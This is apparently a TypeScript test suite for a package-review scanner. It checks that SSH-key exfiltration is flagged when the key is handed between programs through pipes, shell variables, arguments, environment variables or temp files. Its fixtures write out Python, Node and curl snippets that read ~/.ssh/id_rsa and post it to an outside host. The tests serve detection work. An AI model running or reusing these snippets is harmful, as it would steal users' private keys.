import { expect, test } from "vitest";
import { reviewPackage } from "../../review";
import { packageOf } from "../../test-support/package-of";

/** What leaves, with the file and the line at which it does. */
async function sent(files: Record<string, string>): Promise<string[]> {
  const { findings } = await reviewPackage(packageOf(files));
  return findings
    .filter(({ rule }) => /exfiltration|credential-exfiltration/.test(rule))
    .map(({ severity, file, line }) => `${severity} ${file}:${line}`);
}

const COLLECT = "import os\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n";
const FROM_INPUT = "import sys, requests\nrequests.post('https://in.statsbox.net/u', data=sys.stdin.read())\n";
const FROM_WORDS = "import sys, requests\nrequests.post('https://in.statsbox.net/u', data=sys.argv[1])\n";

test.each([
  [
    "through a pipe",
    { "main.sh": "python3 collect.py | python3 send.py", "collect.py": COLLECT, "send.py": FROM_INPUT },
    "send.py:2",
  ],
  [
    "through a variable of the shell",
    {
      "main.sh": 'K="$(python collect.py)"\npython "$DIR/send.py" "$K"\n',
      "collect.py": COLLECT,
      "send.py": FROM_WORDS,
    },
    "send.py:2",
  ],
  [
    "as a word of the command",
    { "main.sh": 'python send.py "$(cat ~/.ssh/id_rsa)"', "send.py": FROM_WORDS },
    "send.py:2",
  ],
  [
    "in the environment",
    {
      "main.sh": 'export KEY="$(cat ~/.ssh/id_rsa)"\nnode hooks/after.js\n',
      "hooks/after.js": "fetch('https://in.statsbox.net/u', { method: 'POST', body: process.env.KEY });\n",
    },
    "hooks/after.js:1",
  ],
  [
    "to a command",
    { "main.sh": "python collect.py | curl -d @- https://in.statsbox.net/u", "collect.py": COLLECT },
    "main.sh:1",
  ],
  [
    "in a file to a command",
    {
      "main.sh": "python collect.py\ncurl -F f=@/tmp/k.txt https://in.statsbox.net/u\n",
      "collect.py": "import os, shutil\nshutil.copy(os.path.expanduser('~/.ssh/id_rsa'), '/tmp/k.txt')\n",
    },
    "main.sh:2",
  ],
  [
    "in a file that the shell fills",
    {
      "main.sh": "python collect.py > out.txt\npython send.py < out.txt\n",
      "collect.py": COLLECT,
      "send.py": FROM_INPUT,
    },
    "send.py:2",
  ],
])("follows what one program of the package gives another %s", async (_, files, place) => {
  expect(await sent(files)).toEqual([`block ${place}`]);
});

const KEY = "open(os.path.expanduser('~/.ssh/id_rsa')).read()";

test.each([
  ["a word", `subprocess.run([sys.executable, os.path.join(HERE, "send.py"), ${KEY}])`, FROM_WORDS],
  ["its input", `subprocess.run(["python", "send.py"], input=${KEY}, text=True)`, FROM_INPUT],
  [
    "its input, later",
    `p = subprocess.Popen(["python", "send.py"], stdin=subprocess.PIPE)\np.communicate(${KEY})`,
    FROM_INPUT,
  ],
  [
    "a variable",
    `subprocess.run(["python", "send.py"], env={**os.environ, "NOTE": ${KEY}})`,
    "import os, requests\nrequests.post('https://in.statsbox.net/u', data=os.environ['NOTE'])\n",
  ],
  [
    "a line of the shell",
    `os.system(f"python send.py --note '{${KEY}}'")`,
    "import argparse, requests\np = argparse.ArgumentParser()\np.add_argument('--note')\na = p.parse_args()\nrequests.post('https://in.statsbox.net/u', data=a.note)\n",
  ],
])("follows what a program gives one that it starts as %s", async (_, code, send) => {
  const main = `import os, subprocess, sys\nHERE = os.path.dirname(__file__)\n${code}\n`;
  expect((await sent({ "main.py": main, "send.py": send })).map((one) => one.replace(/:.*/, ""))).toEqual([
    "block send.py",
  ]);
});

test.each([
  ["what the user names", { "main.sh": 'python send.py "$1"', "send.py": FROM_WORDS }],
  ["harmless output", { "main.sh": "python c.py | python send.py", "c.py": "print('hello')", "send.py": FROM_INPUT }],
  [
    "two programs that do not meet",
    { "main.sh": "python collect.py\npython send.py hello\n", "collect.py": COLLECT, "send.py": FROM_WORDS },
  ],
  [
    "the environment that every program has",
    {
      "main.py": "import os, subprocess\nsubprocess.run(['python', 'send.py', 'hi'], env=dict(os.environ))",
      "send.py": FROM_WORDS,
    },
  ],
])("leaves %s alone", async (_, files) => {
  expect(await sent(files)).toEqual([]);
});
